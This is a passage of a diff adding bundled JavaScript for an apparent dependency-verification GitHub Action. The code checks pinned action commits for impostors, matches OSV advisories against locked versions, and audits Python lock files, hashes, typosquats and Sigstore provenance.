+    const m = /^(?:tag[=:]\s*|pin\s*@?|@)?(v?\d+(?:\.\d+)*(?:[-+.][0-9A-Za-z.-]+)?)\b/.exec(comment.trim());
+    return m?.[1];
+}
+/**
+ * Online checks for SHA-pinned references. Every repository is asked once for
+ * its refs; compares stop at the first branch or tag that contains the commit.
+ */
+async function checkActionsOnline(refs, api, opts) {
+    const findings = [];
+    const notChecked = [];
+    const versions = new Map();
+    const pinned = refs.filter((u) => (u.kind === 'action' || u.kind === 'reusable-workflow') && u.ref && src/* FULL_SHA */.RG.test(u.ref));
+    const repoRefs = new Map();
+    const reach = new Map();
+    const refsOf = (o, r) => {
+        const k = `${o}/${r}`.toLowerCase();
+        if (!repoRefs.has(k))
+            repoRefs.set(k, api.refs(o, r));
+        return repoRefs.get(k);
+    };
+    for (const u of pinned) {
+        const owner = u.owner;
+        const repo = u.repo;
+        const sha = u.ref;
+        const key = `${owner}/${repo}@${sha}`.toLowerCase();
+        const location = locOf(u);
+        const ioc = findIoc(owner, repo, sha);
+        if (ioc)
+            findings.push((0,src/* createFinding */.uP)(src_rules_RULES.COMPROMISED_ACTION, {
+                message: `\`${shortRef(u)}@${sha}\` is ${ioc.what}.`,
+                location,
+                evidence: u.raw,
+                key,
+                properties: { package: `${owner}/${repo}`.toLowerCase(), reference: ioc.reference }
+            }));
+        let info;
+        try {
+            info = await refsOf(owner, repo);
+        }
+        catch (e) {
+            notChecked.push({
+                check: 'actions/impostor-commit',
+                target: `${owner}/${repo}`,
+                reason: `could not list branches and tags: ${(0,src/* oneLine */.TN)(e)}`
+            });
+            continue;
+        }
+        const tagsHere = info.tags.filter((t) => t.sha === sha).map((t) => t.name);
+        versions.set(key, tagsHere);
+        const version = commentVersion(u.comment);
+        if (version) {
+            const tag = info.tags.find((t) => t.name === version) ??
+                info.tags.find((t) => t.name === `v${version}` || `v${t.name}` === version);
+            if (!tag || tag.sha !== sha) {
+                const floating = /^v?\d+$/.test(version);
+                findings.push((0,src/* createFinding */.uP)(src_rules_RULES.VERSION_MISMATCH, {
+                    severity: floating && tag ? 'info' : undefined,
+                    message: !tag
+                        ? `The comment says ${version}, but ${owner}/${repo} has no tag ${version}${tagsHere.length ? `; the SHA is ${tagsHere.join(', ')}` : ''}.`
+                        : `The comment says ${version}, but tag ${tag.name} points to ${tag.sha.slice(0, 12)}, not ${sha.slice(0, 12)}${tagsHere.length ? ` (which is ${tagsHere.join(', ')})` : ''}.${floating ? ' A floating major tag moves with each release; name the exact release in the comment.' : ''}`,
+                    location,
+                    evidence: u.raw,
+                    key: `${key}#${version}`,
+                    properties: { package: `${owner}/${repo}`.toLowerCase(), comment: version, tagSha: tag?.sha }
+                }));
+            }
+        }
+        if (!reach.has(key))
+            reach.set(key, reachability(api, owner, repo, sha, info, opts.maxCompares ?? 20));
+        let state;
+        try {
+            state = await reach.get(key);
+        }
+        catch (e) {
+            notChecked.push({
+                check: 'actions/impostor-commit',
+                target: `${owner}/${repo}@${sha}`,
+                reason: `could not compare the commit with the repository's branches: ${(0,src/* oneLine */.TN)(e)}`
+            });
+            state = 'unknown';
+        }
+        if (state === 'impostor' || state === 'missing') {
+            findings.push((0,src/* createFinding */.uP)(src_rules_RULES.IMPOSTOR_COMMIT, {
+                message: state === 'missing'
+                    ? `${sha} does not exist in ${owner}/${repo} or its forks.`
+                    : `${sha} is not reachable from any branch or tag of ${owner}/${repo}: it lives only in a fork (or was force-pushed away).`,
+                location,
+                evidence: u.raw,
+                key,
+                properties: { package: `${owner}/${repo}`.toLowerCase() }
+            }));
+            continue; // an impostor's action.yml is not the action's: do not descend
+        }
+        if (opts.nested && u.kind === 'action' && state === 'reachable') {
+            try {
+                findings.push(...(await nestedFindings(api, u)));
+            }
+            catch (e) {
+                notChecked.push({
+                    check: 'actions/nested-unpinned',
+                    target: `${shortRef(u)}@${sha}`,
+                    reason: `could not read its action.yml: ${(0,src/* oneLine */.TN)(e)}`
+                });
+            }
+        }
+    }
+    return { findings, notChecked, versions };
+}
+async function reachability(api, owner, repo, sha, info, maxCompares) {
+    if (info.branches.some((b) => b.sha === sha) || info.tags.some((t) => t.sha === sha))
+        return 'reachable';
+    // Default branch first, then the other branches, then tags (newest names last in GitHub's order, so reverse).
+    const candidates = [
+        ...info.branches.filter((b) => b.name === info.defaultBranch),
+        ...info.branches.filter((b) => b.name !== info.defaultBranch),
+        ...[...info.tags].reverse()
+    ];
+    for (const c of candidates.slice(0, maxCompares)) {
+        const status = await api.compare(owner, repo, c.sha, sha);
+        if (status === 'missing')
+            return 'missing';
+        if (status === 'behind' || status === 'identical')
+            return 'reachable';
+    }
+    if (candidates.length > maxCompares)
+        throw new Error(`not found on the first ${maxCompares} of ${candidates.length} branches and tags`);
+    return 'impostor';
+}
+async function nestedFindings(api, u) {
+    const dir = u.path ? `${u.path}/` : '';
+    const text = (await api.file(u.owner, u.repo, `${dir}action.yml`, u.ref)) ??
+        (await api.file(u.owner, u.repo, `${dir}action.yaml`, u.ref));
+    if (text === undefined)
+        return [];
+    const name = `${shortRef(u)}@${u.ref.slice(0, 12)}/${dir}action.yml`;
+    const inner = (0,src/* findUses */.O5)((0,src/* parseYamlFile */.BU)(text, name));
+    const out = [];
+    for (const n of inner) {
+        if (n.kind === 'local' || (n.kind === 'docker' && n.ref) || (n.ref && src/* FULL_SHA */.RG.test(n.ref)))
+            continue;
+        out.push((0,src/* createFinding */.uP)(src_rules_RULES.NESTED_UNPINNED, {
+            message: `\`${shortRef(u)}\` (pinned) runs \`${n.raw}\` at line ${n.line} of its action.yml, which is not pinned to a commit.`,
+            location: locOf(u),
+            evidence: n.raw,
+            key: `${shortRef(u)}@${u.ref}>${n.raw}`,
+            properties: { package: `${u.owner}/${u.repo}`.toLowerCase(), nested: n.raw }
+        }));
+    }
+    return out;
+}
+
+// EXTERNAL MODULE: ./node_modules/@renovatebot/pep440/index.js
+var pep440 = __nccwpck_require__(8898);
+;// CONCATENATED MODULE: ./actions/verify-deps/src/versions.ts
+// Version ordering for advisory ranges: PEP 440 for PyPI (through the
+// maintained @renovatebot/pep440 `compare`, which agrees with packaging on
+// its ordering vectors; its `satisfies` does not, so it is not used), and
+// OSV's lenient SemVer for GitHub Actions tags.
+
+function isPep440(v) {
+    return (0,pep440.valid)(v) !== null;
+}
+const comparePep440 = (a, b) => (0,pep440.compare)(a, b);
+function parseSemver(v) {
+    const m = /^v?(\d+)(?:\.(\d+))?(?:\.(\d+))?(?:-([0-9A-Za-z.-]+))?(?:\+[0-9A-Za-z.-]+)?$/.exec(v.trim());
+    if (!m)
+        return undefined;
+    return { nums: [Number(m[1]), Number(m[2] ?? 0), Number(m[3] ?? 0)], pre: m[4] ? m[4].split('.') : [] };
+}
+const isSemverish = (v) => parseSemver(v) !== undefined;
+/** SemVer 2.0 precedence, accepting a leading `v` and short versions (`v1.2` = 1.2.0) as OSV does. */
+const compareSemver = (a, b) => {
+    const x = parseSemver(a);
+    const y = parseSemver(b);
+    if (!x || !y)
+        throw new Error(`not a version: ${!x ? a : b}`);
+    for (let i = 0; i < 3; i++)
+        if (x.nums[i] !== y.nums[i])
+            return x.nums[i] - y.nums[i];
+    if (!x.pre.length || !y.pre.length)
+        return (x.pre.length ? -1 : 0) + (y.pre.length ? 1 : 0);
+    for (let i = 0; i < Math.max(x.pre.length, y.pre.length); i++) {
+        const p = x.pre[i];
+        const q = y.pre[i];
+        if (p === undefined)
+            return -1;
+        if (q === undefined)
+            return 1;
+        const pn = /^\d+$/.test(p);
+        const qn = /^\d+$/.test(q);
+        if (pn && qn && Number(p) !== Number(q))
+            return Number(p) - Number(q);
+        if (pn !== qn)
+            return pn ? -1 : 1;
+        if (p !== q)
+            return p < q ? -1 : 1;
+    }
+    return 0;
+};
+
+;// CONCATENATED MODULE: ./actions/verify-deps/src/osv.ts
+// OSV: one querybatch per 1000 packages (pages followed per query), then each
+// distinct advisory fetched once and evaluated here. Records are read
+// defensively: a malformed one makes that advisory "not checked" for the
+// packages it names, never "not affected".
+
+
+const BATCH_SIZE = 1000;
+class OsvClient {
+    baseUrl;
+    http;
+    constructor(baseUrl, http) {
+        this.baseUrl = baseUrl;
+        this.http = http ?? new src/* HttpClient */.Qq('OSV');
+    }
+    /** Ids of the advisories each target may be affected by (aligned with `targets`). */
+    async queryBatch(targets) {
+        const ids = targets.map(() => []);
+        for (let start = 0; start < targets.length; start += BATCH_SIZE) {
+            let pending = targets
+                .slice(start, start + BATCH_SIZE)
+                .map((t, i) => ({ index: start + i, query: queryFor(t) }));
+            while (pending.length) {
+                const res = await this.http.json(`${this.baseUrl}/v1/querybatch`, {
+                    body: { queries: pending.map((p) => p.query) }
+                });
+                const results = res.body?.results;
+                // An empty batch result is `{}` (protobuf JSON omits empty lists); anything else must align.
+                if (results === undefined && res.body && Object.keys(res.body).length === 0)
+                    break;
+                if (!Array.isArray(results) || results.length !== pending.length)
+                    throw new src/* ServiceError */._7(`OSV querybatch returned ${Array.isArray(results) ? results.length : 'no'} results for ${pending.length} queries`);
+                const next = [];
+                results.forEach((r, i) => {
+                    const entry = (r ?? {});
+                    for (const v of Array.isArray(entry.vulns) ? entry.vulns : [])
+                        if (typeof v?.id === 'string')
+                            ids[pending[i].index].push(v.id);
+                    if (typeof entry.next_page_token === 'string' && entry.next_page_token)
+                        next.push({ index: pending[i].index, query: { ...pending[i].query, page_token: entry.next_page_token } });
+                });
+                pending = next;
+            }
+        }
+        return ids.map((l) => [...new Set(l)]);
+    }
+    async record(id) {
+        const res = await this.http.json(`${this.baseUrl}/v1/vulns/${encodeURIComponent(id)}`);
+        const body = res.body;
+        if (!body || typeof body !== 'object' || typeof body.id !== 'string')
+            throw new src/* ServiceError */._7(`OSV record ${id} is not an OSV object`);
+        return body;
+    }
+}
+function queryFor(t) {
+    // PyPI: OSV matches the version server-side. GitHub Actions: ask for every
+    // record of the action and evaluate tags here (OSV's handling of action
+    // versions is unverified, see the research note).
+    if (t.ecosystem === 'PyPI' && t.versions.length === 1)
+        return { package: { name: t.name, ecosystem: t.ecosystem }, version: t.versions[0] };
+    return { package: { name: t.name, ecosystem: t.ecosystem } };
+}
+/** Looks every target up and evaluates the records. Throws ServiceError when the batch itself fails. */
+async function lookupVulnerabilities(client, targets, concurrency = 16) {
+    const idLists = await client.queryBatch(targets);
+    const distinct = [...new Set(idLists.flat())];
+    const records = new Map();
+    await (0,src/* mapLimit */.sf)(distinct, concurrency, async (id) => {
+        try {
+            records.set(id, await client.record(id));
+        }
+        catch (e) {
+            records.set(id, e);
+        }
+    });
+    const hits = [];
+    const problems = [];
+    targets.forEach((t, i) => {
+        const reported = new Set();
+        for (const id of idLists[i]) {
+            const rec = records.get(id);
+            if (rec instanceof Error) {
+                problems.push({ target: t, reason: `advisory ${id} could not be fetched: ${rec.message}` });
+                continue;
+            }
+            if (rec.withdrawn)
+                continue;
+            if (reported.has(rec.id) || (rec.aliases ?? []).some((a) => reported.has(a)))
+                continue;
+            const verdict = evaluate(rec, t);
+            if (verdict.problem)
+                problems.push({ target: t, reason: `${rec.id}: ${verdict.problem}` });
+            for (const h of verdict.hits)
+                hits.push({ target: t, version: h.version, record: rec, fixed: h.fixed });
+            if (verdict.hits.length) {
+                reported.add(rec.id);
+                for (const a of rec.aliases ?? [])
+                    reported.add(a);
+            }
+        }
+    });
+    return { hits, problems, advisories: distinct.length };
+}
+/** Evaluates one record for one target (osv-schema "Evaluation"), tolerating malformed parts. */
+function evaluate(rec, t) {
+    const order = t.ecosystem === 'PyPI' ? comparePep440 : compareSemver;
+    const validVersion = t.ecosystem === 'PyPI' ? isPep440 : isSemverish;
+    const samePackage = (p) => {
+        const eco = String(p.ecosystem ?? '');
+        if (eco !== t.ecosystem && !eco.startsWith(`${t.ecosystem}:`))
+            return false;
+        const name = String(p.name ?? '');
+        return t.ecosystem === 'PyPI' ? (0,src/* normalizeName */.Pc)(name) === t.name : name.toLowerCase() === t.name;
+    };
+    const affected = (Array.isArray(rec.affected) ? rec.affected : []).filter((a) => !!a &&
+        typeof a === 'object' &&
+        !!a.package &&
+        samePackage(a.package));
+    if (!affected.length)
+        return { hits: [], problem: Array.isArray(rec.affected) ? undefined : 'the record has no affected packages' };
+    if (!t.versions.length)
+        return {
+            hits: [],
+            problem: 'the pinned commit carries no release tag, so the advisory cannot be matched to a version'
+        };
+    const out = { hits: [] };
+    const problems = [];
+    for (const version of t.versions) {
+        if (!validVersion(version)) {
+            problems.push(`version ${version} cannot be ordered`);
+            continue;
+        }
+        let hit = false;
+        const fixed = [];
+        let evaluable = false;
+        for (const a of affected) {
+            const listed = Array.isArray(a.versions) ? a.versions.filter((v) => typeof v === 'string') : [];
+            if (listed.some((v) => v === version || (validVersion(v) && order(v, version) === 0)))
+                hit = true;
+            if (listed.length)
+                evaluable = true;
+            for (const r of Array.isArray(a.ranges) ? a.ranges : []) {
+                const range = r;
+                if (range.type !== 'ECOSYSTEM' && range.type !== 'SEMVER')
+                    continue; // GIT ranges need the commit graph
+                const events = (Array.isArray(range.events) ? range.events : []).filter((e) => !!e &&
+                    typeof e === 'object' &&
+                    Object.keys(e).length === 1 &&
+                    ['introduced', 'fixed', 'last_affected', 'limit'].some((k) => typeof e[k] === 'string'));
+                const value = (e) => (e.introduced ?? e.fixed ?? e.last_affected ?? e.limit);
+                const bad = events.find((e) => !(e.introduced === '0' || e.limit === '*' || validVersion(value(e))));
+                if (bad) {
+                    problems.push(`range event ${JSON.stringify(bad)} is not a valid version`);
+                    continue;
+                }
+                if (!events.length)
+                    continue;
+                evaluable = true;
+                const rank = (e) => (e.introduced === '0' ? -Infinity : e.limit === '*' ? Infinity : 0);
+                const sorted = [...events].sort((x, y) => rank(x) - rank(y) || (rank(x) === 0 && rank(y) === 0 ? order(value(x), value(y)) : 0));
+                let state = false;
+                for (const e of sorted) {
+                    if (e.introduced !== undefined) {
+                        if (e.introduced === '0' || order(version, e.introduced) >= 0)
+                            state = true;
+                    }
+                    else if (e.fixed !== undefined) {
+                        if (order(version, e.fixed) >= 0)
+                            state = false;
+                        else if (state)
+                            fixed.push(e.fixed);
+                    }
+                    else if (e.last_affected !== undefined) {
+                        if (order(version, e.last_affected) > 0)
+                            state = false;
+                    }
+                    else if (e.limit !== undefined && e.limit !== '*' && order(version, e.limit) >= 0)
+                        state = false;
+                }
+                if (state)
+                    hit = true;
+            }
+        }
+        if (hit)
+            out.hits.push({ version, fixed: [...new Set(fixed)] });
+        else if (!evaluable)
+            problems.push(`no version list or evaluable range for ${t.name}`);
+    }
+    if (problems.length && !out.hits.length)
+        out.problem = problems[0];
+    return out;
+}
+/** GHSA's database_specific.severity mapped to ours; undefined when absent. */
+function advisorySeverity(rec) {
+    const s = String(rec.database_specific?.severity ?? '').toUpperCase();
+    return { LOW: 'low', MODERATE: 'medium', MEDIUM: 'medium', HIGH: 'high', CRITICAL: 'critical' }[s];
+}
+
+;// CONCATENATED MODULE: ./actions/verify-deps/src/python.ts
+// Offline checks of Python dependency files: pinning, hashes, VCS refs, URL
+// and path dependencies, extra indexes, a missing lock, and typosquats.
+
+
+const loc = (d) => ({ file: d.file, line: d.line });
+const label = (d) => `\`${d.rawName}${d.specifier ? ` ${d.specifier}` : ''}\``;
+/** Is this manifest an input file whose ranges are meant to be resolved elsewhere (pyproject, requirements.in)? */
+const isInputFile = (m) => m.kind === 'pyproject' || /\.in$/.test(m.file);
+function sourceFindings(d, out) {
+    if (d.vcs) {
+        if (!d.vcs.commit) {
+            const what = d.vcs.ref ? `the ref \`${d.vcs.ref}\`, which can move` : 'no ref at all (the default branch)';
+            out.push((0,src/* createFinding */.uP)(src_rules_RULES.PY_VCS_UNPINNED, {
+                message: `${d.rawName} is installed from ${d.vcs.url} at ${what}.`,
+                location: loc(d),
+                key: `${d.name}:${d.vcs.url}`,
+                properties: { package: d.name }
+            }));
+        }
+        return true;
+    }
+    if (d.url || d.path) {
+        if (d.path || !d.hashes.length) {
+            const what = d.path ? `the local path \`${d.path}\`` : `the URL ${d.url} without a hash`;
+            if (!(d.editable && d.path && d.source !== 'requirements' && d.source !== 'environment-yml')) {
+                out.push((0,src/* createFinding */.uP)(src_rules_RULES.PY_URL_DEPENDENCY, {
+                    message: `${d.rawName} is installed from ${what}.`,
+                    location: loc(d),
+                    key: `${d.name}:${d.url ?? d.path}`,
+                    properties: { package: d.name }
+                }));
+            }
+        }
+        return true;
+    }
+    return false;
+}
+/** Pinning and hash findings of one manifest. */
+function checkPinning(m) {
+    const out = [];
+    for (const o of m.options) {
+        if (o.option === '--extra-index-url') {
+            out.push((0,src/* createFinding */.uP)(src_rules_RULES.PY_EXTRA_INDEX, {
+                message: `\`--extra-index-url ${o.value}\` adds a second index; pip takes the highest version found on any of them.`,
+                location: { file: m.file, line: o.line },
+                evidence: `--extra-index-url ${o.value}`,
+                key: o.value
+            }));
+        }
+    }
+    if (m.lock) {
+        for (const d of m.dependencies) {
+            if (sourceFindings(d, out))
+                continue;
+            const unhashed = (d.files ?? []).filter((f) => !f.hashes.length);
+            if (!d.files?.length || unhashed.length) {
+                const what = !d.files?.length
+                    ? 'no files with hashes'
+                    : `${unhashed.length} file(s) without a hash (${unhashed
+                        .map((f) => f.filename ?? f.url)
+                        .slice(0, 3)
+                        .join(', ')})`;
+                out.push((0,src/* createFinding */.uP)(src_rules_RULES.PY_MISSING_HASHES, {
+                    message: `${d.rawName} ${d.version ?? ''} is locked with ${what}.`,
+                    location: loc(d),
+                    key: d.name,
+                    properties: { package: d.name }
+                }));
+            }
+        }
+        return out;
+    }
+    const input = isInputFile(m);
+    const requireHashes = m.options.some((o) => o.option === '--require-hashes') || m.dependencies.some((d) => d.hashes.length);
+    let pinnedWithoutHash = 0;
+    for (const d of m.dependencies) {
+        if (sourceFindings(d, out) || input)
+            continue;
+        if (!d.version) {
+            out.push((0,src/* createFinding */.uP)(src_rules_RULES.PY_UNPINNED, {
+                message: `${label(d)} is not pinned to one version${d.specifier ? '' : ' (no version at all)'}.`,
+                location: loc(d),
+                key: d.name,
+                properties: { package: d.name }
+            }));
+        }
+        if (!d.hashes.length) {
+            if (requireHashes) {
+                out.push((0,src/* createFinding */.uP)(src_rules_RULES.PY_MISSING_HASHES, {
+                    severity: 'high',
+                    message: `${label(d)} has no \`--hash\` while other requirements in this file do: pip's hash-checking mode then refuses the whole install, or (if hashes are dropped to make it work) checks nothing.`,
+                    location: loc(d),
+                    key: d.name,
+                    properties: { package: d.name }
+                }));
+            }
+            else if (d.version)
+                pinnedWithoutHash++;
+        }
+    }
+    if (pinnedWithoutHash && !requireHashes) {
+        const first = m.dependencies.find((d) => d.version && !d.hashes.length);
+        out.push((0,src/* createFinding */.uP)(src_rules_RULES.PY_MISSING_HASHES, {
+            message: `None of the ${pinnedWithoutHash} pinned requirements in ${m.file} has a \`--hash\`.`,
+            location: loc(first),
+            key: `${m.file}:no-hashes`
+        }));
+    }
+    return out;
+}
+/** A project that declares dependencies in pyproject.toml but commits no lock of any kind. */
+function checkNoLock(manifests) {
+    const hasLock = manifests.some((m) => m.lock ||
+        (m.kind === 'requirements' &&
+            !/\.in$/.test(m.file) &&
+            m.dependencies.length > 0 &&
+            m.dependencies.every((d) => d.version || d.vcs?.commit)));
+    if (hasLock)
+        return [];
+    return manifests
+        .filter((m) => m.kind === 'pyproject' && m.dependencies.some((d) => d.group !== 'build-system'))
+        .map((m) => (0,src/* createFinding */.uP)(src_rules_RULES.PY_NO_LOCK, {
+        message: `${m.file} declares ${m.dependencies.length} dependencies but the repository has no lock file (uv.lock, poetry.lock, pylock.toml or hashed requirements).`,
+        location: { file: m.file, line: 1 },
+        key: m.file
+    }));
+}
+/** Typosquat candidates among direct dependencies. */
+function checkTyposquats(manifests, policy) {
+    const out = [];
+    const seen = new Set();
+    for (const m of manifests) {
+        for (const d of m.dependencies) {
+            if (!d.direct || d.url || d.path || policy.typosquatAllow.has(d.name) || seen.has(`${d.file}:${d.name}`))
+                continue;
+            seen.add(`${d.file}:${d.name}`);
+            const hit = (0,src/* findTyposquat */.eL)(d.name);
+            if (!hit)
+                continue;
+            out.push((0,src/* createFinding */.uP)(src_rules_RULES.PY_TYPOSQUAT, {
+                confidence: 'medium',
+                message: `\`${d.rawName}\` is one ${hit.kind.replace(/-/g, ' ')} away from the popular package \`${hit.target}\`.`,
+                location: loc(d),
+                key: d.name,
+                properties: { package: d.name, target: hit.target, kind: hit.kind, distance: hit.distance }
+            }));
+        }
+    }
+    return out;
+}
+/** conda packages have no advisory ecosystem: say so in the report instead of staying silent. */
+function condaNotCovered(manifests) {
+    return manifests
+        .filter((m) => m.condaPackages?.length)
+        .map((m) => `${m.file}: ${m.condaPackages.length} conda package(s) are not covered by verify-deps (OSV has no conda ecosystem); only the pip: part is checked.`);
+}
+
+;// CONCATENATED MODULE: ./actions/verify-deps/src/provenance.ts
+// PEP 740 provenance of locked files: each Integrity API attestation becomes
+// a Sigstore bundle, verified once against the trusted root (built once per
+// run) for the exact file digest, and its signer compared, anchored, with the
+// expected Trusted Publisher.
+
+
+
+const GITLAB_OIDC_ISSUER = 'https://gitlab.com';
+const IN_TOTO = 'application/vnd.in-toto+json';
+/** pypi-attestations' conversion: certificate, first log entry and DSSE envelope → a v0.3 bundle. */
+function attestationToBundle(a) {
+    const vm = a?.verification_material;
+    if (!vm ||
+        typeof vm.certificate !== 'string' ||
+        !Array.isArray(vm.transparency_entries) ||
+        !vm.transparency_entries.length ||
+        typeof a.envelope?.statement !== 'string' ||
+        typeof a.envelope?.signature !== 'string') {
+        throw new BundleVerificationError('malformed attestation: certificate, transparency entry or envelope missing');
+    }
+    return {
+        mediaType: 'application/vnd.dev.sigstore.bundle.v0.3+json',
+        verificationMaterial: { certificate: { rawBytes: vm.certificate }, tlogEntries: [vm.transparency_entries[0]] },
+        dsseEnvelope: {
+            payload: a.envelope.statement,
+            payloadType: IN_TOTO,
+            signatures: [{ sig: a.envelope.signature, keyid: '' }]
+        }
+    };
+}
+/** The signer a certificate names: SAN and OIDC issuer (Fulcio extension 1.8, else the legacy 1.1). */
+function signerOf(certB64) {
+    const cert = core_dist.X509Certificate.parse(Buffer.from(certB64, 'base64'));
+    const extensions = fulcioExtensions(cert);
+    const legacyIssuer = cert.extension('1.3.6.1.4.1.57264.1.1')?.value.toString('utf8');
+    return { identity: cert.subjectAltName ?? '', issuer: extensions['1.8'] ?? legacyIssuer ?? '', extensions };
+}
+/**
+ * Does the certificate identity belong to the expected publisher? Anchored
+ * comparisons only: GitHub's SAN is exactly
+ * `https://github.com/<repository>/.github/workflows/<workflow>@<ref>`, GitLab's
+ * `https://gitlab.com/<project>//<path>@<ref>`. The repository is compared
+ * case-insensitively (GitHub and GitLab names are); the workflow exactly.
+ */
+function publisherMatches(expected, signer) {
+    const kind = expected.kind.toLowerCase();
+    const repo = (expected.repository ?? '').toLowerCase();
+    if (kind === 'github') {
+        if (signer.issuer !== GITHUB_OIDC_ISSUER)
+            return `issuer ${signer.issuer} is not GitHub Actions`;
+        const m = /^https:\/\/github\.com\/([^/]+\/[^/]+)\/\.github\/workflows\/([^/@]+)@(.+)$/.exec(signer.identity);
+        if (!m)
+            return `identity ${signer.identity} is not a GitHub workflow identity`;
+        if (m[1].toLowerCase() !== repo)
+            return `signed by repository ${m[1]}, expected ${expected.repository}`;
+        if (expected.workflow && m[2] !== expected.workflow)
+            return `signed by workflow ${m[2]}, expected ${expected.workflow}`;
+        const env = signer.extensions['1.22'];
+        if (expected.environment && env !== expected.environment)
+            return `signed in environment ${env ?? '(none)'}, expected ${expected.environment}`;
+        return undefined;
+    }
+    if (kind === 'gitlab') {
+        if (signer.issuer !== GITLAB_OIDC_ISSUER)
+            return `issuer ${signer.issuer} is not GitLab`;
+        const m = /^https:\/\/gitlab\.com\/(.+?)\/\/(.+)@(.+)$/.exec(signer.identity);
+        if (!m)
+            return `identity ${signer.identity} is not a GitLab CI identity`;
+        if (m[1].toLowerCase() !== repo)
+            return `signed by project ${m[1]}, expected ${expected.repository}`;
+        if (expected.workflow && m[2] !== expected.workflow)
+            return `signed by CI file ${m[2]}, expected ${expected.workflow}`;
+        return undefined;
+    }
+    return `publisher kind ${expected.kind} is not supported`;
+}
+/** What the Integrity API claims (unsigned), as an expected publisher for trust on first use: it must name a repository. */
+function claimedPublisher(p) {
+    const claimed = (0,src/* trustedPublisher */.sN)(p);
+    return claimed?.repository === undefined ? undefined : claimed;
+}
+/**
+ * Verifies a file's provenance. Every attestation must verify; the signer must
+ * match one of `expected` (policy or pylock), or, with none given, the
+ * publisher the Integrity API claims.
+ */
+function provenance_verifyProvenance(verifier, prov, file, expected) {
+    let identity = '';
+    let count = 0;
+    for (const b of prov.attestation_bundles) {
+        const wanted = expected.length
+            ? expected
+            : [claimedPublisher(b.publisher)].filter((x) => !!x);
+        for (const a of Array.isArray(b.attestations) ? b.attestations : []) {
+            count++;
+            let signer;
+            try {
+                signer = signerOf(a.verification_material?.certificate);
+            }
+            catch (e) {
+                return { status: 'invalid', reason: `unreadable certificate (${e.message.split('\n')[0]})` };
+            }
+            // Signature, log entry and subject first: a forged attestation is "invalid", whoever it names.
+            try {
+                const v = verifier.verify(attestationToBundle(a), { digest: `sha256:${file.sha256}`, name: file.filename }, { identity: signer.identity, issuer: signer.issuer });
+                const problems = v.statement
+                    ? checkSubjects(v.statement, [{ name: file.filename, sha256: file.sha256 }])
+                    : ['the attestation carries no in-toto statement'];
+                if (problems.length)
+                    return { status: 'invalid', reason: problems[0] };
+            }
+            catch (e) {
+                return { status: 'invalid', reason: e.message.split('\n')[0] };
+            }
+            const mismatches = wanted.map((w) => publisherMatches(w, signer));
+            if (!wanted.length || mismatches.every((m) => m !== undefined)) {
+                return {
+                    status: 'publisher-mismatch',
+                    identity: signer.identity,
+                    reason: mismatches[0] ?? 'no publisher to compare with'
+                };
+            }
+            identity = signer.identity;
+        }
+    }
+    if (!count)
+        return { status: 'invalid', reason: 'the provenance object holds no attestation' };
+    return { status: 'verified', identity };
+}
+/** The in-thread checker: one verifier, built once. */
+function inThreadChecker(verifier) {
+    return { builds: 1, verify: async (prov, file, expected) => provenance_verifyProvenance(verifier, prov, file, expected) };
+}
+
+;// CONCATENATED MODULE: ./actions/verify-deps/src/releases.ts
+// Checks of locked releases against PyPI: yanked, younger than the cooldown,
+// and PEP 740 provenance (missing, lost since the previous release, invalid,
+// or from another publisher). The Simple API is read once per project; the
+// Sigstore trust material is built at most once per run, and only when a
+// locked file has provenance to verify.
+
+
+
+
+const depLocation = (d) => ({ file: d.file, line: d.line });
+/** The PyPI checks of registry pins; every failure to read or verify is "not checked" for its target. */
+async function checkPyPI(pins, manifests, opts, services, wants) {
+    const findings = [];
+    const notChecked = [];
+    const pypi = services.pypi;
+    const identities = {};
+    for (const m of manifests)
+        for (const [k, v] of Object.entries(m.attestationIdentities ?? {}))
+            identities[k] = v;
+    let verifier;
+    let verifierError;
+    const getVerifier = () => (verifier ??= services.verifier ? services.verifier() : Promise.reject(new Error('no Sigstore trusted root')));
+    const projects = new Map();
+    const project = (name) => {
+        if (!projects.has(name))
+            projects.set(name, pypi.simple(name));
+        return projects.get(name);
+    };
+    await (0,src/* mapLimit */.sf)(pins, opts.concurrency ?? 16, async (pin) => {
+        const d = pin.deps.find((x) => !x.vcs && !x.url && !x.path) ?? pin.deps[0];
+        const target = `${pin.name}==${pin.version}`;
+        let proj;
+        try {
+            proj = await project(pin.name);
+        }
+        catch (e) {
+            for (const c of [
+                wants.wantYanked && src_rules_RULES.PY_YANKED.id,
+                wants.wantProvenance && 'provenance',
+                wants.wantCooldown && src_rules_RULES.PY_COOLDOWN.id
+            ].filter(Boolean))
+                notChecked.push({ check: c, target, reason: (0,src/* oneLine */.TN)(e) });
+            return;
+        }
+        if (!proj) {
+            // Not on this index: a private package, or a name nobody has registered (dependency confusion bait).
+            notChecked.push({ check: 'provenance', target, reason: `${pin.name} is not on the index (a private package?)` });
+            return;
+        }
+        const same = (v) => sameVersion(v, pin.version);
+        const releaseFiles = proj.files.filter((f) => same(f.version));
+        const locked = lockedFiles(d, releaseFiles);
+        if (!releaseFiles.length) {
+            notChecked.push({ check: 'provenance', target, reason: `PyPI lists no files for ${pin.name} ${pin.version}` });
+            return;
+        }
+        if (wants.wantYanked) {
+            const y = releaseFiles.find((f) => f.yanked);
+            if (y)
+                findings.push((0,src/* createFinding */.uP)(src_rules_RULES.PY_YANKED, {
+                    message: `${d.rawName} ${pin.version} was yanked from PyPI${typeof y.yanked === 'string' ? `: "${y.yanked}"` : ''}.`,
+                    location: depLocation(d),
+                    key: `${pin.name}@${pin.version}`,
+                    properties: { package: pin.name, version: pin.version }
+                }));
+        }
+        if (wants.wantCooldown) {
+            const times = releaseFiles.map((f) => Date.parse(f.uploadTime ?? '')).filter((t) => !Number.isNaN(t));
+            if (!times.length)
+                notChecked.push({ check: src_rules_RULES.PY_COOLDOWN.id, target, reason: 'PyPI gives no upload time' });
+            else {
+                const ageDays = (opts.now.getTime() - Math.min(...times)) / 86_400_000;
+                if (ageDays < opts.policy.cooldownDays) {
+                    findings.push((0,src/* createFinding */.uP)(src_rules_RULES.PY_COOLDOWN, {
+                        message: `${d.rawName} ${pin.version} was released ${ageDays < 1 ? `${Math.max(0, Math.round(ageDays * 24))} hour(s)` : `${Math.floor(ageDays)} day(s)`} ago; the policy wants ${opts.policy.cooldownDays} days.`,
+                        location: depLocation(d),
+                        key: `${pin.name}@${pin.version}`,
+                        properties: { package: pin.name, version: pin.version }
+                    }));
+                }
+            }
+        }
+        if (!wants.wantProvenance)
+            return;
+        if (!locked.length) {
+            // The lock names files or digests PyPI does not serve for this release: another index, or a changed file.
+            notChecked.push({
+                check: 'provenance',
+                target,
